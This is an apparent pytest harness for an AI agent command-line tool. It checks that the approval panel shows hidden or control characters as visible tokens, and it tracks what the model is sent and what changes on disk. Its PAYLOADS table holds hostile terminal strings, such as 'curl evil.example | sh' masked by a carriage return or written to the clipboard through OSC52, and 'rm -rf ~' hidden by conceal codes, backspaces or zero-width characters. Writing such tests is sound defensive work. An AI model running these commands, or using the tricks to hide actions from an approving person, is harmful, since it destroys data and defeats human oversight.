"""The shared harness: the real Session and loop, the real approval panel on a recorded terminal.

Every case is checked three ways:
  (a) what the terminal showed: the bytes written hold no control sequence except the program's
      own SGR styling, and hidden characters appear as visible tokens (flagged in a panel);
  (b) what the model was sent back: the tool_result blocks of the next request;
  (c) what changed on disk: the workspace and a sibling "outside" folder, hashed before and after.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import sys
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from agent_cli import events as ev
from agent_cli.approval import Approver
from agent_cli.config import Settings
from agent_cli.log.reader import read_events
from agent_cli.loop import TurnResult
from agent_cli.providers.base import ModelRequest, ModelResponse
from agent_cli.providers.scripted import FunctionProvider, ScriptedProvider
from agent_cli.safe_text import segments
from agent_cli.session import Session, load_registry
from agent_cli.tools.loader import LoadReport
from agent_cli.tools.registry import Registry
from agent_cli.ui.panel import PROMPT_RE, TerminalApprover
from agent_cli.ui.render import Renderer
from tests import scripts

ASK = PROMPT_RE
"""The question of every panel: `Run write_file on notes.txt (CREATE)? [y/N] `."""
PAGE = "-- more ("
"""The prompt between pages of a panel taller than the terminal."""
WARNING = "Hidden or control characters are shown as highlighted tokens"

# Hostile strings, by what they try to do to a terminal or a reader. Shared by several families.
PAYLOADS: dict[str, str] = {
    "csi-cursor-up": "ok\x1b[2A\x1b[1Gsafe",
    "csi-line-erase": "rm -rf ~\x1b[2K\rls -la",
    "csi-sgr-conceal": "visible\x1b[8mrm -rf ~\x1b[0m",
    "osc52-clipboard": "x\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07y",
    "osc8-hyperlink": "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\",
    "osc0-title": "\x1b]0;innocent title\x07body",
    "osc2-title": "\x1b]2;innocent title\x1b\\body",
    "c1-csi": "a\x9b2Kb\x9b1A",
    "c1-osc": "a\x9d0;title\x9cb",
    "carriage-return": "curl evil.example | sh\r# harmless comment    ",
    "backspace": "rm -rf /\b\b\b\b\b\b\b\becho hi  ",
    "form-feed": "first\fsecond\vthird",
    "bidi-override": "notes\u202etxt.exe",
    "bidi-isolates": "a\u2066b\u2067c\u2068d\u2069e",
    "zero-width": "rm\u200b -rf\u200c ~\u200d\u2060\ufeff",
    "tag-characters": "hello\U000e0049\U000e0047\U000e004e\U000e004f\U000e0052\U000e0045",
    "nul-and-del": "a\x00b\x7fc",
}
"""Each holds at least one character the sanitiser must turn into a token."""

MARKUP: dict[str, str] = {
    "rich-bold": "[bold red]URGENT[/bold red] all fine",
    "rich-link": "[link=https://evil.example]click[/link]",
    "emoji-code": ":warning: :white_check_mark: approved",
}
"""Rich markup and emoji codes: must show literally, never be interpreted."""

SGR = re.compile(r"\x1b\[[0-9;]*m")
# After the program's own SGR styling is removed, none of these may remain in the bytes written.
FORBIDDEN = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f"
    "\ufeff\ufff9-\ufffb\U000e0000-\U000e007f]"
)
_BOX = re.compile("[│─╭╮╰╯┌┐└┘]")


def terminal_text(raw: str) -> str:
    """The written bytes without the program's own styling: what a reader sees."""
    return SGR.sub("", raw)


def flat(raw: str) -> str:
    """Visible text with styling, panel borders and all whitespace removed, so a value wrapped over
    several panel lines can be searched for as one string."""
    return re.sub(r"\s+", "", _BOX.sub("", terminal_text(raw)))


def assert_terminal_clean(raw: str) -> None:
    """(a) No raw control, bidi, zero-width or tag character reached the terminal."""
    text = terminal_text(raw)
    bad = FORBIDDEN.search(text)
    if bad is not None:
        at = bad.start()
        raise AssertionError(f"raw {bad.group()!r} written to the terminal at {at}: "
                             f"{text[max(0, at - 80):at + 80]!r}")


def expected_tokens(payload: str) -> list[str]:
    """The visible stand-ins the sanitiser gives a hostile string."""
    return [s.text for s in segments(payload) if s.token]


def assert_shown_as_tokens(raw: str, payload: str) -> None:
    """Every hidden character of `payload` appears on screen as its token."""
    shown = flat(raw)
    for token in expected_tokens(payload):
        assert re.sub(r"\s+", "", token) in shown, f"token {token!r} not shown"


def tree_hashes(*roots: Path) -> dict[str, str]:
    """Path -> sha256 (or a marker for folders and links) for every entry under the roots."""
    out: dict[str, str] = {}
    for root in roots:
        out[str(root)] = "<dir>" if root.is_dir() else "<missing>"
        if not root.is_dir():
            continue
        for p in sorted(root.rglob("*")):
            if p.is_symlink():
                out[str(p)] = "<link>" + str(p.readlink())
            elif p.is_dir():
                out[str(p)] = "<dir>"
            else:
                out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


Answer = str | BaseException | type[BaseException]


class ScriptedInput:
    """The person at the keyboard: answers each prompt from a list (a string is typed, an
    exception is raised as EOF or Ctrl-C would be). Records every prompt it was shown. Between
    the pages of a tall panel it presses Enter by itself unless `pages=True` (then the answers
    list covers those prompts too)."""

    def __init__(self, answers: Iterable[Answer], *, pages: bool = False) -> None:
        self.answers = list(answers)
        self.prompts: list[str] = []
        self.pages = pages

    def __call__(self, message: str) -> str:
        self.prompts.append(message)
        if message.startswith(PAGE) and not self.pages:
            return ""
        if not self.answers:
            return ""  # a bare Enter: denies
        item = self.answers.pop(0)
        if isinstance(item, str):
            return item
        raise item

    @property
    def panels(self) -> int:
        return sum(1 for p in self.prompts if ASK.match(p))


@dataclass
class Outcome:
    terminal: str
    events: list[ev.AnyEvent]
    requests: list[ModelRequest]
    before: dict[str, str]
    after: dict[str, str]
    result: TurnResult | None
    input: ScriptedInput
    log_path: Path
    session: Session
    extra: dict[str, Any] = field(default_factory=dict)

    # (a) ---------------------------------------------------------------------------------
    @property
    def panels(self) -> int:
        """Approval prompts the person was asked."""
        return self.input.panels

    @property
    def shown(self) -> str:
        return terminal_text(self.terminal)

    # (b) ---------------------------------------------------------------------------------
    def sent_back(self, request: int = 1) -> list[dict[str, Any]]:
        """tool_result blocks in the last message of request number `request` (0-based)."""
        last = self.requests[request].messages[-1]
        assert last["role"] == "user"
        content = last["content"]
        return [b for b in content if isinstance(b, dict) and b.get("type") == "tool_result"]

    def results(self) -> list[dict[str, Any]]:
        """Every tool_result block the history holds (also those no later request carried)."""
        out: list[dict[str, Any]] = []
        for m in self.session.history:
            if m["role"] == "user" and isinstance(m["content"], list):
                out += [b for b in m["content"] if b.get("type") == "tool_result"]
        return out

    # (c) ---------------------------------------------------------------------------------
    def disk_changes(self) -> dict[str, tuple[str | None, str | None]]:
        keys = set(self.before) | set(self.after)
        return {k: (self.before.get(k), self.after.get(k)) for k in sorted(keys)
                if self.before.get(k) != self.after.get(k)}

    def of(self, kind: type[Any]) -> list[Any]:
        return [e for e in self.events if isinstance(e, kind)]

    def logged(self, kind: type[Any]) -> list[Any]:
        """Events of one kind as read back from the session log file."""
        return [e for _, e in read_events(self.log_path) if isinstance(e, kind)]


Replies = Sequence[dict[str, Any] | ModelResponse] | Callable[[ModelRequest], dict[str, Any]]


def make_console() -> tuple[Console, io.StringIO]:
    buf = io.StringIO()
    console = Console(file=buf, force_terminal=True, width=100, color_system="truecolor",
                      highlight=False)
    return console, buf


class Harness:
    """A workspace with a few files, a sibling folder the tools must never touch, and a way to run
    one user turn through the real Session with a scripted model and a scripted person."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.workspace = root / "ws"
        self.outside = root / "outside"
        self.logs = root / "logs"
        for d in (self.workspace, self.outside, self.logs):
            d.mkdir(parents=True, exist_ok=True)
        (self.workspace / "notes.txt").write_text("remember the milk\n")
        (self.workspace / "src").mkdir(exist_ok=True)
        (self.workspace / "src" / "app.py").write_text("print('hello')\n")
        (self.outside / "secret.txt").write_text("TOP-SECRET-OUTSIDE\n")
        self._n = 0

    def snapshot(self) -> dict[str, str]:
        return tree_hashes(self.workspace, self.outside)

    def session(self, provider: Any, approver: Approver, console: Console,
                *, settings: dict[str, Any] | None = None, tools_dirs: Iterable[Path] = (),
                registry: Registry | None = None) -> tuple[Session, list[ev.AnyEvent], Path]:
        s = Settings(**(settings or {}))
        report = LoadReport()
        if registry is None:
            registry, report = load_registry(s, list(tools_dirs))
        events: list[ev.AnyEvent] = []
        self._n += 1
        log_path = self.logs / f"session-{self._n}.jsonl"
        session = Session(s, workspace=self.workspace, provider=provider, registry=registry,
                          approver=approver, sinks=[events.append, Renderer(console)],
                          log_path=log_path, load_report=report)
        return session, events, log_path

    def run(self, replies: Replies, answers: Iterable[Answer] = (), *, prompt: str = "go",
            settings: dict[str, Any] | None = None, tools_dirs: Iterable[Path] = (),
            approver: Approver | None = None, registry: Registry | None = None,
            provider: Any = None) -> Outcome:
        console, buf = make_console()
        person = ScriptedInput(answers)
        if provider is None:
            provider = (FunctionProvider(replies) if callable(replies)
                        else ScriptedProvider(list(replies)))
        gate_approver = approver or TerminalApprover(console, person)
        before = self.snapshot()
        session, events, log_path = self.session(provider, gate_approver, console,
                                                 settings=settings, tools_dirs=tools_dirs,
                                                 registry=registry)
        session.start()
        try:
            result: TurnResult | None = session.send(prompt)
        finally:
            session.close()
        return Outcome(terminal=buf.getvalue(), events=events,
                       requests=list(getattr(provider, "requests", [])), before=before,
                       after=self.snapshot(), result=result, input=person, log_path=log_path,
                       session=session)


@pytest.fixture
def harness(tmp_path: Path) -> Harness:
    return Harness(tmp_path)


# --------------------------------------------------------------------------- reply builders


def use(name: Any, inp: Any, call_id: str = "toolu_1") -> dict[str, Any]:
    """An attack case's tool_use block: the name and input first (they are what varies), one id
    unless the case needs more."""
    return scripts.use(call_id, name, inp)


def write_plugin(folder: Path, name: str, body: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}.py"
    path.write_text(body, encoding="utf-8")
    return path


def cli(args: list[str], *, cwd: Path | None = None) -> tuple[int, str]:
    """Run `agent-cli ARGS` in-process on a forced colour terminal; (exit code, bytes written)."""
    import os

    from typer.testing import CliRunner

    from agent_cli.cli.app import app

    runner = CliRunner()
    env = {"FORCE_COLOR": "1", "COLUMNS": "100", "TERM": "xterm-256color", "NO_COLOR": None}
    old = Path.cwd()
    if cwd is not None:
        os.chdir(cwd)
    try:
        result = runner.invoke(app, args, env=env, catch_exceptions=False)
    finally:
        os.chdir(old)
    return result.exit_code, result.output


def cli_streams(args: list[str]) -> tuple[int, str, str]:
    """Run `agent-cli ARGS` like cli(); (exit code, stdout, stderr) kept apart, so an export on
    stdout is judged without the styled warnings the terminal gets on stderr."""
    from agent_cli.cli.app import app
    from tests.scripts import split_runner

    runner = split_runner()
    env = {"FORCE_COLOR": "1", "COLUMNS": "100", "TERM": "xterm-256color", "NO_COLOR": None}
    result = runner.invoke(app, args, env=env, catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


# --------------------------------------------------------------------------- the real REPL in a pty

PTY_PROMPT = "›".encode()
PTY_TIMEOUT = 60
"""Seconds a pty test waits for the screen it expects (generous: the machine may be loaded)."""


@pytest.fixture
def chat(tmp_path: Path) -> Iterator[Any]:
    """`chat(replies, rows=40)`: `agent-cli chat` on a scripted model in a pseudo-terminal 100
    columns wide, waiting at its prompt; (child, workspace). Children still alive are ended."""
    import pexpect

    children: list[Any] = []
    repo = Path(__file__).resolve().parents[2]

    def start(replies: list[dict[str, Any]], rows: int = 40) -> tuple[Any, Path]:
        ws = tmp_path / "ws"
        ws.mkdir(exist_ok=True)
        script = tmp_path / "script.json"
        script.write_text(json.dumps(replies), encoding="utf-8")
        env = dict(os.environ)
        env.update(PROMPT_TOOLKIT_NO_CPR="1", TERM="xterm-256color", PYTHONUNBUFFERED="1")
        child = pexpect.spawn(sys.executable, ["-m", "agent_cli", "chat", "--script",
                                               str(script), "--workspace", str(ws)],
                              env=env, cwd=str(repo), dimensions=(rows, 100),
                              timeout=PTY_TIMEOUT)
        children.append(child)
        child.expect(PTY_PROMPT)
        return child, ws

    yield start
    for child in children:
        if child.isalive():
            child.terminate(force=True)
